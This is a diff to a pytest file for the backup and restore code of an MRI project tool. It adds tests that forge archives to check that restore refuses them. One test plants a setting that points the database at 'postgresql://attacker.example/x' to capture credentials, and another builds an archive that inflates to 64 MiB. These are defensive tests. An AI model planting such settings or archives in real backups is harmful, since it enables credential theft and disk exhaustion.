@@ -1,8 +1,12 @@
 """Backups and copies: equal, verified, and refused where something is not as it was recorded."""
 
+import json
+import shutil
+import tempfile
 import zipfile
 from collections.abc import Iterator
 from contextlib import closing
+from hashlib import sha256
 from pathlib import Path
 
 import pytest
@@ -15,10 +19,22 @@ from opp_mri.domain.imaging import SeriesRole
 from opp_mri.domain.measurement import Place, Signature
 from opp_mri.errors import InputError, ProjectError
 from opp_mri.store.sql import SqlStore
-from opp_mri.workflow.project import STORE_NAME, Project, create_project, open_project
+from opp_mri.workflow.project import (
+    SETTINGS_NAME,
+    STORE_NAME,
+    Project,
+    create_project,
+    open_project,
+)
 from opp_mri.workflow.safekeeping.accounts import add_account
 from opp_mri.workflow.safekeeping.audit import verify
-from opp_mri.workflow.safekeeping.backup import back_up, check_backup, copy_project, restore
+from opp_mri.workflow.safekeeping.backup import (
+    MANIFEST_NAME,
+    back_up,
+    check_backup,
+    copy_project,
+    restore,
+)
 
 
 @pytest.fixture
@@ -111,6 +127,56 @@ def test_a_forged_backup_is_refused(project: Project, tmp_path: Path) -> None:
             archive.writestr(name, store.read_bytes() if name == STORE_NAME else part)
     with pytest.raises(InputError, match="not as it was made"):
         restore(path, tmp_path / "two")
+
+
+def forge_backup(path: Path, **others: bytes) -> None:
+    """Give members of a backup another content, with a manifest that agrees."""
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    parts |= {name.replace("__", "."): content for name, content in others.items()}
+    manifest = json.loads(parts[MANIFEST_NAME])
+    manifest["sha256"] = {name: sha256(parts[name]).hexdigest() for name in manifest["sha256"]}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, part in {**parts, MANIFEST_NAME: json.dumps(manifest).encode()}.items():
+            archive.writestr(name, part)
+
+
+def test_a_backup_that_names_a_database_is_refused(project: Project, tmp_path: Path) -> None:
+    """Whoever made it would be sent the account and password of this machine."""
+    path = back_up(project, tmp_path / "backup.zip", NOON).path
+    forge_backup(path, opp_mri__toml=b'database = "postgresql://attacker.example/x"\n')
+    with pytest.raises(InputError, match="not as it was made"):
+        restore(path, tmp_path / "two")
+    assert not (tmp_path / "two").exists()
+
+
+def test_a_backup_that_would_fill_the_disk_is_refused_before_it_is_unpacked(
+    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = back_up(project, tmp_path / "backup.zip", NOON).path
+    forge_backup(path, opp_mri__toml=b"\n" * (64 << 20))
+    assert path.stat().st_size < 1 << 20
+    little = shutil.disk_usage(tmp_path)._replace(free=32 << 20)
+    monkeypatch.setattr(shutil, "disk_usage", lambda _: little)
+    with pytest.raises(InputError, match="asks for 64 MiB"):
+        restore(path, tmp_path / "two")
+
+
+def test_an_encrypted_backup_is_plain_nowhere_but_in_the_projects(
+    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Neither making nor restoring it uses the folder for temporary files of the system."""
+    used: list[str] = []
+
+    def noted(*, prefix: str, dir: Path | None = None) -> tempfile.TemporaryDirectory[str]:
+        used.append(str(dir))
+        return tempfile.TemporaryDirectory(prefix=prefix, dir=dir)
+
+    monkeypatch.setattr("opp_mri.workflow.safekeeping.backup.TemporaryDirectory", noted)
+    back_up(project, tmp_path / "backup.opp", NOON, "five words drawn by chance")
+    restore(tmp_path / "backup.opp", tmp_path / "two", "five words drawn by chance")
+    assert used == [str(project.folder)] * 2 + [str(tmp_path / "two")]
+    assert {path.name for path in (tmp_path / "two").iterdir()} == {STORE_NAME, SETTINGS_NAME}
 
 
 def test_a_project_with_a_fault_is_not_backed_up_as_if_it_were_sound(
